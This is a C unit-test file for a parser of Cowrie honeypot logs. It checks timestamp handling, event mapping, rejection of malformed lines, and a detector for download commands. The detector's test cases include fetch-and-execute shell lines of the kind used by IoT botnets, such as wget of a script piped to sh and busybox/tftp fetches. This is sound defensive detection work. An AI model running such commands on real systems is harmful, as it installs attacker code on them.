/* SPDX-License-Identifier: MIT */
/* Unit tests for Cowrie log lines as observations: each mapped event id, times, download
 * commands, and the lines that are refused or ignored. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <netinet/in.h>

#include "common/macros.h"
#include "observe/cowrie.h"

static int parse(const char *line, struct obs_event *e, char *why)
{
	return obs_cowrie_parse(line, strlen(line), e, why, 64);
}

static void assert_src(const struct obs_event *e, const char *s)
{
	struct np_addr a;
	assert_int_equal(addr_parse(s, &a), 0);
	assert_true(addr_equal(&e->src, &a));
}

static void test_time(void **state)
{
	(void)state;
	int64_t t;
	assert_int_equal(obs_cowrie_time("2024-11-21T10:00:00.123456Z", &t), 0);
	assert_int_equal(t, 1732183200);
	assert_int_equal(obs_cowrie_time("2024-11-21T10:00:00Z", &t), 0);
	assert_int_equal(t, 1732183200);
	assert_int_equal(obs_cowrie_time("2024-11-21T10:00:00", &t), 0);
	assert_int_equal(t, 1732183200);
	assert_int_equal(obs_cowrie_time("2024-11-21T12:00:00+02:00", &t), 0);
	assert_int_equal(t, 1732183200);
	assert_int_equal(obs_cowrie_time("2024-11-21T05:30:00.5-0430", &t), 0);
	assert_int_equal(t, 1732183200);
	assert_int_equal(obs_cowrie_time("1970-01-01T00:00:00Z", &t), 0);
	assert_int_equal(t, 0);
	assert_int_equal(obs_cowrie_time("2024-02-29T00:00:00Z", &t), 0);
	assert_int_equal(t, 1709164800);
	const char *bad[] = {"",
	                     "2024-11-21",
	                     "2024-11-21T10:00",
	                     "2024-13-01T00:00:00Z",
	                     "2024-11-31T00:00:00Z",
	                     "2024-11-21T24:00:00Z",
	                     "2024-11-21T10:00:00.Z",
	                     "2024-11-21T10:00:00ZZ",
	                     "2024-11-21T10:00:00+2",
	                     "1969-12-31T23:59:59Z",
	                     "1970-01-01T00:00:00+01:00",
	                     "2024-11-21x10:00:00Z",
	                     "２024-11-21T10:00:00Z"};
	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
		if (obs_cowrie_time(bad[i], &t) != NP_EMALFORMED)
			fail_msg("accepted '%s'", bad[i]);
}

static void test_download_commands(void **state)
{
	(void)state;
	const char *yes[] = {
	    "cd /tmp; wget http://192.0.2.9/bins.sh; sh bins.sh",
	    "curl -O https://example.com/x.arm7",
	    "/bin/busybox wget http://192.0.2.9/m",
	    "busybox ftpget 192.0.2.9 m m",
	    "tftp -g -r bins.sh 192.0.2.9",
	    "tftp 192.0.2.9 -c get t8UsA.sh",
	    "(wget -qO- http://x/y || curl http://x/y) | sh",
	};
	const char *no[] = {
	    "enable",
	    "sh",
	    "/bin/busybox MIRAI",
	    "cat /proc/cpuinfo",
	    "echo http://x/y",
	    "wgetrc http://x",
	    "tftp -g -r bins.sh server",
	    "ls 192.0.2.9",
	    "uname -a; wget",
	};
	for (size_t i = 0; i < ARRAY_SIZE(yes); i++)
		if (!obs_cowrie_is_download(yes[i]))
			fail_msg("missed '%s'", yes[i]);
	for (size_t i = 0; i < ARRAY_SIZE(no); i++)
		if (obs_cowrie_is_download(no[i]))
			fail_msg("false download '%s'", no[i]);
}

static void test_events(void **state)
{
	(void)state;
	struct obs_event e;
	char why[64];
	assert_int_equal(
	    parse("{\"eventid\":\"cowrie.session.connect\",\"src_ip\":\"198.51.100.50\","
	          "\"src_port\":40212,\"dst_ip\":\"10.0.0.5\",\"dst_port\":23,"
	          "\"protocol\":\"telnet\",\"timestamp\":\"2024-11-21T10:00:00.1Z\"}",
	          &e, why),
	    0);
	assert_int_equal(e.kind, OBS_CONNECT);
	assert_src(&e, "198.51.100.50");
	assert_int_equal(e.dst_port, 23);
	assert_int_equal(e.proto, IPPROTO_TCP);
	assert_int_equal(e.time, 1732183200);

	assert_int_equal(parse("{\"eventid\":\"cowrie.login.failed\",\"username\":\"root\","
	                       "\"password\":\"xc3511\",\"src_ip\":\"::ffff:198.51.100.50\","
	                       "\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	                       &e, why),
	                 0);
	assert_int_equal(e.kind, OBS_LOGIN);
	assert_src(&e, "198.51.100.50"); /* v4-mapped becomes IPv4 */
	assert_string_equal(e.user, "root");
	assert_string_equal(e.pass, "xc3511");
	assert_int_equal(e.dst_port, 0);

	/* Long and odd credentials: cut at 32 bytes, control characters replaced. */
	assert_int_equal(parse("{\"eventid\":\"cowrie.login.success\",\"username\":"
	                       "\"0123456789abcdef0123456789abcdefXYZ\",\"password\":\"a\\tb\","
	                       "\"src_ip\":\"2001:db8::5\",\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	                       &e, why),
	                 0);
	assert_string_equal(e.user, "0123456789abcdef0123456789abcdef");
	assert_string_equal(e.pass, "a?b");
	assert_src(&e, "2001:db8::5");

	assert_int_equal(parse("{\"eventid\":\"cowrie.command.input\",\"input\":\"cd /tmp; wget "
	                       "http://192.0.2.9/a\",\"src_ip\":\"198.51.100.50\","
	                       "\"timestamp\":\"2024-11-21T10:00:02Z\"}",
	                       &e, why),
	                 0);
	assert_int_equal(e.kind, OBS_DOWNLOAD);
	assert_int_equal(parse("{\"eventid\":\"cowrie.session.file_download\",\"url\":"
	                       "\"http://192.0.2.9/a\",\"src_ip\":\"198.51.100.50\","
	                       "\"timestamp\":\"2024-11-21T10:00:03Z\"}",
	                       &e, why),
	                 0);
	assert_int_equal(e.kind, OBS_DOWNLOAD);

	/* Not evidence. */
	assert_int_equal(
	    parse("{\"eventid\":\"cowrie.command.input\",\"input\":\"uname -a\","
	          "\"src_ip\":\"198.51.100.50\",\"timestamp\":\"2024-11-21T10:00:02Z\"}",
	          &e, why),
	    NP_ENOTFOUND);
	assert_int_equal(
	    parse("{\"eventid\":\"cowrie.session.closed\",\"duration\":1.5,"
	          "\"src_ip\":\"198.51.100.50\",\"timestamp\":\"2024-11-21T10:00:04Z\"}",
	          &e, why),
	    NP_ENOTFOUND);
	/* A line of another event need not carry what ours need. */
	assert_int_equal(parse("{\"eventid\":\"cowrie.client.version\"}", &e, why), NP_ENOTFOUND);
	/* A trailing newline is fine. */
	assert_int_equal(parse("{\"eventid\":\"cowrie.log.closed\"}\n", &e, why), NP_ENOTFOUND);
}

static void bad(const char *line, const char *want)
{
	struct obs_event e;
	char why[64];
	int r = parse(line, &e, why);
	if (r != NP_EMALFORMED || strcmp(why, want) != 0)
		fail_msg("'%s': got %d '%s', want '%s'", line, r, why, want);
}

static void test_bad_lines(void **state)
{
	(void)state;
	bad("", "not a JSON object");
	bad("not json", "not a JSON object");
	bad("[1,2]", "not a JSON object");
	bad("{\"eventid\":\"x\"} trailing", "not a JSON object");
	bad("{\"src_ip\":\"198.51.100.1\"}", "no eventid");
	bad("{\"eventid\":7}", "no eventid");
	bad("{\"eventid\":\"cowrie.login.failed\",\"username\":\"a\",\"password\":\"b\","
	    "\"src_ip\":\"999.1.1.1\",\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	    "bad src_ip");
	bad("{\"eventid\":\"cowrie.login.failed\",\"username\":\"a\",\"password\":\"b\","
	    "\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	    "bad src_ip");
	bad("{\"eventid\":\"cowrie.login.failed\",\"username\":\"a\",\"password\":\"b\","
	    "\"src_ip\":\"198.51.100.1\",\"timestamp\":\"yesterday\"}",
	    "bad timestamp");
	bad("{\"eventid\":\"cowrie.login.failed\",\"username\":\"a\","
	    "\"src_ip\":\"198.51.100.1\",\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	    "bad username or password");
	bad("{\"eventid\":\"cowrie.session.connect\",\"dst_port\":70000,"
	    "\"src_ip\":\"198.51.100.1\",\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	    "bad dst_port");
	bad("{\"eventid\":\"cowrie.session.connect\",\"dst_port\":\"23\","
	    "\"src_ip\":\"198.51.100.1\",\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	    "bad dst_port");
	bad("{\"eventid\":\"cowrie.command.input\",\"input\":5,"
	    "\"src_ip\":\"198.51.100.1\",\"timestamp\":\"2024-11-21T10:00:01Z\"}",
	    "bad input");
	bad("{\"eventid\":\"cowrie.session.connect\",\"eventid\":\"cowrie.session.connect\"}",
	    "not a JSON object");

	/* Too long. */
	size_t n = OBS_COWRIE_LINE_MAX + 1;
	char *big = malloc(n);
	assert_non_null(big);
	memset(big, ' ', n);
	struct obs_event e;
	char why[64];
	assert_int_equal(obs_cowrie_parse(big, n, &e, why, sizeof(why)), NP_EMALFORMED);
	assert_string_equal(why, "line too long");
	free(big);
	/* why may be NULL. */
	assert_int_equal(obs_cowrie_parse("x", 1, &e, NULL, 0), NP_EMALFORMED);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_time),
	    cmocka_unit_test(test_download_commands),
	    cmocka_unit_test(test_events),
	    cmocka_unit_test(test_bad_lines),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
